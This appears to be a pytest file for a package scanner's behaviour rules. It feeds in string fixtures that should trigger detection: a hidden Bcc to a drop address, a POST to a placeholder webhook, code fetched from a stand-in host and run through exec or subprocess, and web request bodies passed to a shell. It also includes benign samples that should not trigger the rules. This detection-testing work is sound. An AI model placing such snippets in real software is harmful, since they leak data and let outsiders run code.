"""What waits to be called and counts nevertheless, beside what honest packages have alike."""

from pathlib import Path

import pytest

from package_gate.core.limits import Limits
from package_gate.scanners.behaviour.scanner import BehaviourScanner
from tests.scanners.packages import refusing_rules

FETCH = "import requests, subprocess, sys\n"
FLASK = "import subprocess\nfrom flask import request\n"
HOOK = "https://chat.example/api/webhooks/1418298773566095462/some-key"


@pytest.fixture(scope="module")
def behaviour() -> BehaviourScanner:
    return BehaviourScanner(Limits())


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("sends-to-a-drop", "def build(m):\n    m['Bcc'] = 'somebody@a.example'\n    return m\n"),
        ("sends-to-a-drop", "def build(t):\n    return {'to': t, 'bcc': 'somebody@a.example'}\n"),
        (
            "sends-to-a-drop",
            f"import urllib.request as u\nH = '{HOOK}'\ndef tell(t):\n"
            "    r = u.Request(H, t, {'User-Agent': 'x'})\n    u.urlopen(r)\n",
        ),
        (
            "runs-downloaded-code",
            f"{FETCH}def update(a):\n    t = requests.get(a).text\n"
            "    subprocess.Popen([sys.executable, '-c', t, 'x'])\n",
        ),
        (
            "runs-downloaded-code",
            "DEFAULT = \"exec(__import__('urllib.request').request"
            ".urlopen('https://a.example/x').read())\"\n",
        ),
        (
            "runs-downloaded-code",
            f"{FLASK}def probe():\n    return subprocess.getoutput(request.get_data())\n",
        ),
        (
            "runs-downloaded-code",
            "import asyncio\nclass Health:\n    async def post(self):\n"
            "        await asyncio.create_subprocess_shell(self.request.body.decode())\n",
        ),
    ],
)
def test_what_counts_although_it_waits(
    behaviour: BehaviourScanner, tmp_path: Path, rule: str, code: str
) -> None:
    assert rule in refusing_rules(behaviour, tmp_path, {"pk/__init__.py": code})


def test_what_a_server_is_told_runs_in_another_module(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    files = {
        "pk/__init__.py": "from flask import request\nfrom .health import probe\n"
        "def check():\n    return probe(request.get_data())\n",
        "pk/health.py": "import json\ndef probe(body):\n    exec(json.loads(body)['arg'])\n",
    }
    assert "runs-downloaded-code" in refusing_rules(behaviour, tmp_path, files)


@pytest.mark.parametrize(
    "files",
    [
        {"pk/__init__.py": "def build(m, bcc):\n    m['Bcc'] = bcc\n    return m\n"},
        {"pk/__init__.py": "HELP = 'exec(code) runs code; see https://a.example'\n"},
        {
            "pk/__init__.py": f"{FETCH}def run(code):\n"
            "    subprocess.run([sys.executable, '-c', code])\n"
        },
        {
            "pk/__init__.py": f"{FETCH}def show(a):\n    t = requests.get(a).json()['name']\n"
            "    subprocess.run(['echo', '-c', '--', t])\n"
        },
        # The namespace of code that is not known says nothing of it.
        {
            "pk/__init__.py": f"{FETCH}def load(code):\n"
            "    names = {'r': requests.get('https://a.example')}\n"
            "    exec(code, names)\n"
        },
        {
            "pk/__init__.py": "import ast\ndef functions(code):\n"
            "    for node in ast.walk(ast.parse(code)):\n"
            "        exec(compile(ast.Module([node], []), 'x', 'exec'))\n",
            "pk/notes.txt": "x = 1\n",
        },
        # A class is no host.
        {
            "pk/__init__.py": "import os, pv\nfrom validation import check\n"
            "def show():\n    data = pv.DataSet(dict(os.environ))\n    check(data, pv.DataSet)\n"
        },
        {
            "pk/__init__.py": "import importlib.util, pathlib\n"
            "from importlib.machinery import ExtensionFileLoader\n"
            "class Loader(ExtensionFileLoader):\n    pass\n"
            "def find(name, path):\n    for each in pathlib.Path(path).glob(f'{name}*'):\n"
            "        return importlib.util.spec_from_file_location(\n"
            "            name, each, loader=Loader(name, each)\n        )\n"
            "find('a', __path__[0])\n",
            "pk/notes.txt": "x = 1\n",
        },
        # No build runs what is installed in a folder.
        {
            "pk/__init__.py": "",
            "pk/vendor/setup.py": "import sys\n"
            "def main():\n    open(sys.prefix + '/a.py', 'w').write('')\n",
        },
        {"pk/__init__.py": "import sys\nsys.stderr.write('{}'.format(sys.executable))\n"},
        {
            "pk/__init__.py": "import json, os, sys\n"
            "P = os.path.join(sys.prefix, 'share', 'a.json')\n"
            "with open(P, 'w') as f:\n    json.dump({}, f)\n"
        },
        # A client's own function that sends what it is given: to whom, its user says.
        {
            "pk/__init__.py": "from . import client\nimport os\ndef status(where):\n"
            "    return client.send(where, dict(os.environ))\n",
            "pk/client.py": "import requests\ndef send(where, data):\n"
            "    return requests.post(where, json=data)\n",
        },
        {
            "pk/__init__.py": "import os, pexpect\ndef run(words, cwd):\n"
            "    env = os.environ.copy()\n"
            "    return pexpect.spawn(words[0], ['-o', 'a.txt'], env=env)\n"
        },
    ],
)
def test_what_honest_packages_have_alike(
    behaviour: BehaviourScanner, tmp_path: Path, files: dict[str, str | bytes]
) -> None:
    assert not refusing_rules(behaviour, tmp_path, files)
